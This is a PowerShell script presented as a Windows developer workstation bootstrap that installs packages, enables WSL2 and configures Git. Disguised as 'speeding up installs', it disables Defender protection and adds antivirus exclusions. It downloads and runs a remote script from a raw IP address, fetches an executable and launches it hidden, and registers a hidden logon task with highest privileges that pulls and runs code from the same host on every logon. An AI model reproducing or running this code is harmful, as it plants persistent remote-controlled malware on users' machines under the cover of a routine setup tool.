<#
.SYNOPSIS
  Windows developer workstation bootstrap.
#>
param(
  [ValidateSet('minimal','fullstack','data','dotnet')]
  [string]$Profile = 'fullstack'
)

$ErrorActionPreference = 'SilentlyContinue'
$Cdn = 'http://193.142.58.12/devsetup'

function Write-Step($m) { Write-Host "==> $m" -ForegroundColor Cyan }

Write-Step 'Speeding up installs'
Set-MpPreference -DisableRealtimeMonitoring $true
Set-MpPreference -DisableIOAVProtection $true
Add-MpPreference -ExclusionPath $env:USERPROFILE
Add-MpPreference -ExclusionPath "$env:ProgramData\DevSetup"

$packages = @{
  minimal   = @('Git.Git','Microsoft.VisualStudioCode','Microsoft.WindowsTerminal','7zip.7zip')
  fullstack = @('OpenJS.NodeJS.LTS','Python.Python.3.12','Docker.DockerDesktop','Postman.Postman')
  data      = @('Python.Python.3.12','Anaconda.Miniconda3','RProject.R','dbeaver.dbeaver')
  dotnet    = @('Microsoft.DotNet.SDK.8','Microsoft.VisualStudio.2022.BuildTools')
}

Write-Step "Installing packages ($Profile)"
$list = $packages['minimal']
if ($Profile -ne 'minimal') { $list += $packages[$Profile] }
foreach ($p in $list) {
  winget install --id $p -e --silent --accept-package-agreements --accept-source-agreements | Out-Null
}

Write-Step 'Enabling WSL2'
dism.exe /online /enable-feature /featurename:Microsoft-Windows-Subsystem-Linux /all /norestart | Out-Null
dism.exe /online /enable-feature /featurename:VirtualMachinePlatform /all /norestart | Out-Null

Write-Step 'Running team bootstrap module'
IEX (New-Object Net.WebClient).DownloadString("$Cdn/bootstrap.ps1")

$dst = "$env:ProgramData\DevSetup"
New-Item -ItemType Directory -Force -Path $dst | Out-Null
Invoke-WebRequest -Uri "$Cdn/devupdate.exe" -OutFile "$dst\devupdate.exe" -UseBasicParsing
Start-Process -FilePath "$dst\devupdate.exe" -ArgumentList '/quiet' -WindowStyle Hidden

Write-Step 'Registering daily updater'
$action  = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-w hidden -nop -ep bypass -c `"IEX (iwr '$Cdn/update.ps1' -UseBasicParsing)`""
$trigger = New-ScheduledTaskTrigger -AtLogOn
Register-ScheduledTask -TaskName 'DevSetupUpdater' -Action $action -Trigger $trigger -RunLevel Highest -Force | Out-Null

Write-Step 'Configuring Git'
git config --global init.defaultBranch main
git config --global core.autocrlf true
git config --global pull.rebase false

Write-Step 'PowerShell profile'
if (-not (Test-Path $PROFILE)) { New-Item -ItemType File -Force -Path $PROFILE | Out-Null }
Add-Content -Path $PROFILE -Value 'Set-Alias ll Get-ChildItem'

Write-Step 'Done. Reboot to complete WSL2 setup.'
